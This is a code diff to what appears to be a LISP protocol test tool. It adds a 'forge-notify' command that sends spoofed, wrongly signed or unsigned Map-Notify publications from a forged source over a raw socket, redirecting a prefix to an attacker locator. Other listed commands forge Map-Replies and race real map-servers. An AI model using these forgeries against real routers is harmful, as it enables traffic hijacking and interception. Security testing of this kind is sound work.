@@ -25,6 +25,11 @@ one JSON object on stdout.
   forge-probe-replies --to ITR --src SPOOF --prefix P [--count N]
       answers to RLOC-probes (Map-Replies with the P bit) with random
       nonces from SPOOF:4342 (raw socket), P -> SPOOF: "SPOOF answers".
+  forge-notify --to ITR --src SPOOF --prefix P --rloc ATT --xtr-id HEX
+               --nonce N [--key K] [--alg sha1|sha256] [--count C]
+      publications (RFC 9437: Map-Notifies with I, the subscriber's
+      xTR-ID, P -> ATT) from SPOOF:4342 (raw socket), nonces N, N+1,
+      ...; signed with K (not the map-server's), or unsigned without.
   race --iface IF --itr ITR --ms MS --src SPOOF --rloc ATT
        [--timeout S] [--ready FILE]
       wait for ITR's next Map-Request to MS and answer its nonce with
@@ -315,6 +320,34 @@ def cmd_forge_probe_replies(a):
     return 0
 
 
+def map_notify(nonce, records, xtr_id, key, alg):
+    """A Map-Notify with I (RFC 9437): records, then the xTR-ID and a
+    site-ID of 0; HMAC under key, or unsigned (algorithm 0) if no key."""
+    word = w.MAP_NOTIFY << 28 | 1 << 27 | len(records)
+    md, alen = w.ALG[w.ALG[alg]] if key else (None, 0)
+    head = struct.pack("!IQBBH", word, nonce, 0, w.ALG[alg] if key else 0,
+                       alen)
+    body = b"".join(records) + bytes.fromhex(xtr_id) + bytes(8)
+    if not key:
+        return head + body
+    import hmac     # here: loading OpenSSL costs seconds in a TCG guest
+    digest = hmac.new(key.encode(), head + bytes(alen) + body, md).digest()
+    return head + digest[:alen] + body
+
+
+def cmd_forge_notify(a):
+    s = raw_socket()
+    p, plen = prefix(a.prefix)
+    rec = w.record(p, plen, 1440, [(a.rloc, 1, 100)])
+    for i in range(a.count):
+        msg = map_notify((a.nonce + i) % (1 << 64), [rec], a.xtr_id, a.key,
+                         a.alg)
+        raw_send(s, w.ip_udp(a.src, a.to, w.CONTROL_PORT, w.CONTROL_PORT,
+                             msg), a.to)
+    out({"sent": a.count, "signed": bool(a.key)})
+    return 0
+
+
 def cmd_race(a):
     sn = sniffer(a.iface)
     ready(a.ready)
@@ -424,6 +457,12 @@ COMMANDS = {
     "forge-probe-replies": (cmd_forge_probe_replies, {
         "to": (str, REQUIRED), "src": (str, REQUIRED),
         "prefix": (str, REQUIRED), "count": (int, 100)}),
+    "forge-notify": (cmd_forge_notify, {
+        "to": (str, REQUIRED), "src": (str, REQUIRED),
+        "prefix": (str, REQUIRED), "rloc": (str, REQUIRED),
+        "xtr-id": (str, REQUIRED),
+        "nonce": (lambda v: int(v, 0), REQUIRED),
+        "key": (str, None), "alg": (str, "sha256"), "count": (int, 10)}),
     "race": (cmd_race, {
         "iface": (str, REQUIRED), "itr": (str, REQUIRED),
         "ms": (str, REQUIRED), "src": (str, REQUIRED),
